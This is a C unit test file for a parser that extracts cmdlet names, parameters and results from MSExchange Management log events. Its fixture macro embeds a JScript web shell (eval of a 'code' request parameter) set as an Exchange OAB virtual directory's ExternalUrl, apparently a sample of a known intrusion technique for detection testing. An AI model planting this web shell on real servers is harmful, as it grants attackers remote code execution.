#include "event/map_mgmt.h"

#include "t.h"

#define SHELL_URL                                                           \
    "http://ffff/#<script language=\"JScript\" runat=\"server\"> function " \
    "Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}</script>"
#define PARAMETERS "-ExternalUrl \"" SHELL_URL "\" -Identity \"OAB (Default Web Site)\""

static struct event mgmt(uint32_t id)
{
    return (struct event){.event_id = id,
                          .channel = STR("MSExchange Management"),
                          .provider = STR("MSExchange CmdletLogs")};
}

static void check(const struct event *ev)
{
    T_STR(event_text(ev, "Cmdlet"), "Set-OabVirtualDirectory");
    T_STR(event_text(ev, "CmdletParameters"), PARAMETERS);
    T_STR(event_text(ev, "Param_ExternalUrl"), SHELL_URL);
    T_STR(event_text(ev, "Param_Identity"), "OAB (Default Web Site)");
    T_STR(event_text(ev, "CmdletResult"), "succeeded");
}

static void data_and_message_say_the_same(void)
{
    struct arena *a = arena_new();
    struct event ev = mgmt(1);
    static const char *const data[] = {"Set-OabVirtualDirectory",
                                       PARAMETERS,
                                       "example.local/Users/admin",
                                       "S-1-5-21-1",
                                       "",
                                       "ServerRemoteHost-EMC",
                                       "5668 w3wp#MSExchangeECPAppPool"};
    for (size_t i = 0; i < sizeof data / sizeof *data; i++)
        event_add(&ev, a, SECTION_DATA, FIELD_TEXT, STR("Data"), str_of(data[i]));
    mgmt_derive(&ev, a);
    check(&ev);
    T_STR(event_text(&ev, "CmdletCaller"), "example.local/Users/admin");
    T_STR(event_text(&ev, "CmdletHost"), "ServerRemoteHost-EMC");
    T_STR(event_text(&ev, "CmdletProcess"), "5668 w3wp#MSExchangeECPAppPool");

    ev = mgmt(1);
    event_add(
        &ev, a, SECTION_MESSAGE, FIELD_TEXT, STR("Message"),
        STR("Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters " PARAMETERS "."));
    mgmt_derive(&ev, a);
    check(&ev);
    arena_free(a);
}

static struct event with_parameters(const char *text, struct arena *a)
{
    struct event ev = mgmt(6);
    event_add(&ev, a, SECTION_DATA, FIELD_TEXT, STR("Data"), STR("New-X"));
    event_add(&ev, a, SECTION_DATA, FIELD_TEXT, STR("Data"), str_of(text));
    mgmt_derive(&ev, a);
    return ev;
}

static void notations_of_parameters(void)
{
    struct arena *a = arena_new();
    struct event ev = with_parameters("{Identity=OAB (Default Web Site), Force=True, "
                                      "Url=http://x/?a=1,2}",
                                      a);
    T_STR(event_text(&ev, "Param_Identity"), "OAB (Default Web Site)");
    T_STR(event_text(&ev, "Param_Force"), "True");
    T_STR(event_text(&ev, "Param_Url"), "http://x/?a=1,2");
    T_STR(event_text(&ev, "CmdletResult"), "failed");
    ev = with_parameters("-Force -Size 5 -Names (\"a\",\"b\") -Path:\"C:\\x -y\" -End \"", a);
    T_STR(event_text(&ev, "Param_Force"), "");
    T_STR(event_text(&ev, "Param_Size"), "5");
    T_STR(event_text(&ev, "Param_Names"), "(\"a\",\"b\")");
    T_STR(event_text(&ev, "Param_Path"), "C:\\x -y");
    T_STR(event_text(&ev, "Param_End"), "");
    ev = with_parameters("", a);
    T_STR(event_text(&ev, "Cmdlet"), "New-X");
    arena_free(a);
}

static void leaves_other_events_alone(void)
{
    struct arena *a = arena_new();
    struct event ev = mgmt(1);
    ev.channel = STR("Application");
    event_add(&ev, a, SECTION_DATA, FIELD_TEXT, STR("Data"), STR("Set-X"));
    mgmt_derive(&ev, a);
    T_EQ(ev.n, 1);
    ev = mgmt(1);
    event_add(&ev, a, SECTION_MESSAGE, FIELD_TEXT, STR("Message"),
              STR("Nothing, parameters x."));
    mgmt_derive(&ev, a);
    T_EQ(ev.n, 1);
    arena_free(a);
}

static void walk(struct bytes data)
{
    struct arena *a = arena_new();
    struct event ev = mgmt(1);
    event_add(&ev, a, SECTION_MESSAGE, FIELD_TEXT, STR("Message"),
              (struct str){(const char *)data.p, data.n});
    mgmt_derive(&ev, a);
    struct event other = mgmt(1);
    event_add(&other, a, SECTION_DATA, FIELD_TEXT, STR("Data"), STR("Set-X"));
    event_add(&other, a, SECTION_DATA, FIELD_TEXT, STR("Data"),
              (struct str){(const char *)data.p, data.n});
    mgmt_derive(&other, a);
    T_STR(event_text(&other, "Cmdlet"), "Set-X");
    arena_free(a);
}

static void survives_every_truncation(void)
{
    struct str message = STR("Cmdlet failed. Cmdlet Set-X, parameters " PARAMETERS ".");
    t_each_prefix(str_bytes(message), walk);
    t_each_prefix(str_bytes(STR("{Identity=a, Force=b,c , D=}")), walk);
    t_each_prefix(str_bytes(STR(PARAMETERS)), walk);
}

int main(void)
{
    T_RUN(data_and_message_say_the_same);
    T_RUN(notations_of_parameters);
    T_RUN(leaves_other_events_alone);
    T_RUN(survives_every_truncation);
    return t_done();
}
